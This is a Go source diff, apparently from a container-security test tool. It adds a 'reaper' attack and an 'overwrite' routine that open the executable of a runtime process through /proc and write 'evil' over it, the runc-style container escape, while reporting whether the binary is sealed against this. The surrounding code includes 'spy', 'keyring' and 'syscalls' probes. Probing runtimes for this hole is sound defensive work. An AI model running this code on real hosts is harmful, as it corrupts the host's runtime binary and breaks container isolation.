@@ -40,6 +40,8 @@ func runProgram(name string, args []string) int {
 		return swap(args[0], args[1])
 	case "spy":
 		return spy()
+	case "reaper":
+		return reaper()
 	case "keyring":
 		return keyring()
 	case "syscalls":
@@ -96,22 +98,9 @@ func spyOn(proc string, pid int, tell func(string, ...any)) {
 		return
 	}
 	tell("met %s", strings.TrimSpace(string(comm)))
-	if exe, err := os.Readlink(proc + "/exe"); err == nil && !strings.HasPrefix(exe, "/bin/") && exe != "/attack" {
+	if exe, err := os.Readlink(proc + "/exe"); err == nil && foreign(exe) {
 		tell("program %s", strings.Fields(exe)[0])
-		if fd, err := unix.Open(proc+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
-			for range 1000 { // until it no longer runs
-				w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
-				if err != nil {
-					continue
-				}
-				if _, err := unix.Pwrite(w, []byte("evil"), 0); err == nil {
-					tell("WROTE to the program %s", exe)
-				}
-				_ = unix.Close(w)
-				break
-			}
-			_ = unix.Close(fd)
-		}
+		overwrite(proc+"/exe", tell)
 	}
 	if cwd, err := os.Readlink(proc + "/cwd"); err == nil && cwd != "/" {
 		tell("cwd %s", cwd)
@@ -138,6 +127,54 @@ func spyOn(proc string, pid int, tell func(string, ...any)) {
 			_ = unix.PtraceDetach(pid)
 		}
 	}
+}
+
+// overwrite opens a program, tells how it is sealed, and writes to it as soon as
+// it no longer runs.
+func overwrite(path string, tell func(string, ...any)) {
+	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return
+	}
+	defer unix.Close(fd)
+	name, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+	if err != nil || !foreign(name) { // it has executed the container's command meanwhile
+		return
+	}
+	have, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
+	if err != nil {
+		have = 0
+	}
+	sealed := have&allSeals == allSeals
+	tell("OPENED %s, sealed %v", name, sealed)
+	tries := 1000
+	if sealed {
+		tries = 1 // it would be of no use
+	}
+	for range tries {
+		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			continue
+		}
+		if _, err := unix.Pwrite(w, []byte("evil"), 0); err == nil {
+			tell("WROTE to the program %s", name)
+		}
+		_ = unix.Close(w)
+		break
+	}
+}
+
+// foreign tells programs that are not the container's.
+func foreign(exe string) bool { return !strings.HasPrefix(exe, "/bin/") && exe != "/attack" }
+
+const allSeals = unix.F_SEAL_SEAL | unix.F_SEAL_SHRINK | unix.F_SEAL_GROW | unix.F_SEAL_WRITE
+
+// reaper is the attack on process 1 of the container, which is the engine's.
+func reaper() int {
+	exe, err := os.Readlink("/proc/1/exe")
+	fmt.Println("process 1 is", exe, err)
+	overwrite("/proc/1/exe", func(format string, args ...any) { fmt.Printf(format+"\n", args...) })
+	return 0
 }
 
 // syscalls makes each call that opens the kernel further than a container needs,
